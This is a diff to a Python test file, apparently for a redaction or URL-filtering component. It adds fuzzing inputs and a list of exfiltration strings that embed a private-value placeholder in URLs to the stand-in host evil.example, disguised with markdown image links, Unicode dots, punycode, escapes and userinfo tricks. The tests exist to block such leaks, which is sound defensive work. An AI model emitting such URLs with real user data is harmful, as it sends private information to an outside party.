@@ -82,7 +82,8 @@ PIECES = st.sampled_from(
         *WRITINGS, *VALUES, *STAND_INS, "<", ">", "\\", "_", "1", " ", "&lt;", "&", "%3", "u003c", "EMAIL", "E", "2",
         "<EMAIL_1", "EMAIL_1>", "Alex", " Berger", "kim.falk7", "DE_TAX", "_ID_1", "x", '"', "\n",
         "<PERSON_1>'s", "\uff1c", "https:", "//", "/", "ok.example/", "'", "=", "(", ")", ",", "www.", "&#x2f;",
-        "http", "://", "postgres", '="', '":"', '",', "\\n", "\\/",
+        "evil.example", "?", "#", ":80", "e.g.", ".", "-", "\u3002", "@", "http",
+        "://", "postgres", '="', '":"', '",', "\\n", "\\/",
     )
 )  # fmt: skip
 ALLOWS = "ok.example".__eq__
@@ -184,6 +185,24 @@ EXFILTRATION = (
     "https://ok.example\\@evil.example/<EMAIL_1>",
     "https://ok.example.<EMAIL_1>/",
     "https://ok.example/)![x](https://evil.example/<EMAIL_1>)",
+    "evil.example/?q=<EMAIL_1>",
+    "see evil.example/EMAIL_1, then",
+    "(evil.example:8080/a/<EMAIL_1>)",
+    "[x](evil.example?q=<EMAIL_1>)",
+    "**Evil.Example#<EMAIL_1>**",
+    "a:sub.evil.example./<EMAIL_1>",
+    "<b>evil.example/<EMAIL_1></b>",
+    "<a href='evil.example/ <EMAIL_1>'>",
+    "\u00e9vil.example/<EMAIL_1>",
+    "evil\u3002example/<EMAIL_1>",
+    "evil\\.example\\/<EMAIL_1>",
+    "evil.xn--p1ai/<EMAIL_1>",
+    "www.evil.example/?q=<EMAIL_1>",
+    "x-ok.example/<EMAIL_1>",
+    "ok.example/,evil.example/<EMAIL_1>",
+    "https://ok.example/?to=evil.example/<EMAIL_1>",
+    "a\nevil.example/<EMAIL_1>",
+    f"{'a' * 60}.{'b' * 60}.{'c' * 60}.{'d' * 60}.example:12345/<EMAIL_1>",
 )
 
 
@@ -210,6 +229,14 @@ def test_a_value_is_not_put_into_a_url(text: str) -> None:
         "postgres://anna:<EMAIL_1>@db.example/x",
         "and/or <EMAIL_1>, a/<EMAIL_1>, 10:30/<EMAIL_1>",
         "// <EMAIL_1>",
+        "e.g./<EMAIL_1>, i.e./<EMAIL_1>, etc./<EMAIL_1>, z.B./<EMAIL_1>",
+        "docs/readme.md#<EMAIL_1>, /etc/nginx.conf/<EMAIL_1>, ./src/app.config/<EMAIL_1>, conf.d/<EMAIL_1>",
+        "v1.2/<EMAIL_1>, 3.14/<EMAIL_1>, Nr.12/<EMAIL_1>, Ph.D./<EMAIL_1>",
+        "<EMAIL_1>/<EMAIL_1>, b@b.example/<EMAIL_1>",
+        "evil.example <EMAIL_1>, evil.example, <EMAIL_1>, evil.example: <EMAIL_1>, evil.example/ <EMAIL_1>",
+        "Is it a.pdf? <EMAIL_1> knows.",
+        "ok.example/u/<EMAIL_1>, OK.example/<EMAIL_1>",
+        "image/vnd.ms.example/<EMAIL_1>",
     ],
 )
 def test_a_value_beside_a_url_or_in_a_mail_link_comes_back(text: str) -> None:
